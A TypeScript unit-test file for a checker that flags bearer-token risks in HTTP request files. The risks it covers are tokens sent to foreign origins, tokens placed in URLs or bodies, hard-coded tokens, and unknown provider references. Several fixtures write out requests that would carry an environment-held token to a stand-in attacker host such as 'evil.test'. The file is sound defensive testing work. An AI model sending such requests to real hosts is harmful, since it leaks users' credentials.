/** Owns the tests of what is reported in a request file, and of what is none of our business. */
import assert from 'node:assert/strict';
import { readHttpDocument } from '../../../../src/core/http-file/http-document';
import { problemsIn, type ProviderLookup } from '../../../../src/core/http-file/http-problems';

const known: ProviderLookup = {
  has: (id) => id === 'rtzr',
  idOf: (variable) => (variable === 'BEARER_RTZR' ? 'rtzr' : undefined),
  isForeign: (variable) => variable === 'BEARER_OF_MINE',
  mayGoTo: (_id, origin) => origin === 'https://api.test',
  idsBehind: (key) => (key === 't' ? ['rtzr'] : []),
};

const problems = (...lines: readonly string[]): unknown[] => {
  const text = lines.join('\n');
  return problemsIn(readHttpDocument(text), known).map(({ kind, span }) => [kind, text.slice(span.start, span.end)]);
};
const variable = '{{$processEnv BEARER_RTZR}}';

describe('problems of a request file', () => {
  it('are none where a token is in a header and goes where it is meant to', () => {
    assert.deepEqual(problems('GET https://api.test/x', `Authorization: Bearer ${variable}`, '', '{}'), []);
    assert.deepEqual(problems('@t = {{$processEnv BEARER_RTZR}}', 'GET https://api.test/x', 'Authorization: Bearer {{t}}'), []);
    assert.deepEqual(problems('GET https://api.test/x', 'Authorization: Bearer {{$bearer rtzr}}', '', '{{$bearer rtzr}}'), []);
  });

  it('are references to nobody, but not to the variables of others', () => {
    assert.deepEqual(
      problems(
        'GET https://api.test/x',
        'A: {{$processEnv BEARER_SALUTE}}',
        'B: {{$processEnv BEARER-RTZR}}',
        'C: {{$processEnv bearer_rtzr}}',
        'D: {{$bearer salute}}',
        'E: {{$bearer}}',
        'F: {{$processEnv HOME}} {{$processEnv BEARER_OF_MINE}} {{$processEnv %token}} {{$dotenv BEARER_X}}',
        '# {{$bearer in-a-comment}}',
      ),
      [
        ['unknown-provider', '{{$processEnv BEARER_SALUTE}}'],
        ['unknown-provider', '{{$processEnv BEARER-RTZR}}'],
        ['unknown-provider', '{{$processEnv bearer_rtzr}}'],
        ['unknown-provider', '{{$bearer salute}}'],
        ['unknown-provider', '{{$bearer}}'],
      ],
    );
  });

  it('are tokens that only REST Client sees: behind other words, in other braces, in what is a script to httpYac', () => {
    const evil = 'GET https://evil.test/';
    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR x}}'), [
      ['inexact-name', '{{$processEnv BEARER_RTZR x}}'],
      ['other-origin', '{{$processEnv BEARER_RTZR x}}'],
    ]);
    assert.deepEqual(problems(evil, 'A: {{$processEnv BEARER_RTZR {{x}}'), [
      ['inexact-name', '{{$processEnv BEARER_RTZR {{x}}'],
      ['other-origin', '{{$processEnv BEARER_RTZR {{x}}'],
    ]);
    assert.deepEqual(problems(evil, 'A: {{$processEnv %t}}'), [['other-origin', '{{$processEnv %t}}']]);
    for (const [open, close] of [
      ['{{', '}}'],
      ['> {%', '%}'],
    ] as const)
      assert.deepEqual(problems('POST https://evil.test/', '', open, variable, close), [
        ['in-body', variable],
        ['other-origin', variable],
      ]);
  });

  it('are references that REST Client would send as they stand', () => {
    for (const reference of ['{{$processEnv  BEARER_RTZR}}', '{{$processEnv\tBEARER_RTZR}}'])
      assert.deepEqual(problems('GET https://api.test/x', `A: ${reference}`), [['unknown-provider', reference]]);
  });

  it('are variables in addresses and bodies, which failing closed does not cover', () => {
    assert.deepEqual(problems(`GET https://api.test/?t=${variable}`, '', variable), [
      ['in-url', variable],
      ['in-body', variable],
    ]);
    assert.deepEqual(problems(`@t=${variable}`, 'GET https://api.test/{{t}}'), [['in-url', '{{t}}']]);
    assert.deepEqual(problems('GET https://api.test/{{$bearer rtzr}}'), [['in-url', '{{$bearer rtzr}}']]);
    assert.deepEqual(problems('@t = {{$bearer rtzr}}', 'GET https://api.test'), [['in-variable', '{{$bearer rtzr}}']]);
  });

  it('are requests that take a token elsewhere, and no false alarm where that is not known', () => {
    for (const url of ['https://evil.test', 'http://api.test', 'https://api.test:8443', 'https://api.test.evil.test', 'api.test'])
      assert.deepEqual(problems(`GET ${url}`, `A: ${variable}`), [['other-origin', variable]], url);
    assert.deepEqual(problems('@host = https://evil.test', 'GET {{host}}/x', `A: ${variable}`), [['other-origin', variable]]);
    assert.deepEqual(problems('GET {{host}}/x', `A: ${variable}`), []);
    assert.deepEqual(problems('GET https://evil.test'), []);
  });

  it('are tokens that stand in the file', () => {
    assert.deepEqual(problems('GET https://api.test', 'Authorization: Bearer abcdefgh12345678'), [['literal-token', 'abcdefgh12345678']]);
  });

  it('are not listed without end', () => {
    assert.equal(problems('GET https://api.test', ...Array<string>(1_000).fill('A: {{$bearer nobody}}')).length, 200);
  });
});
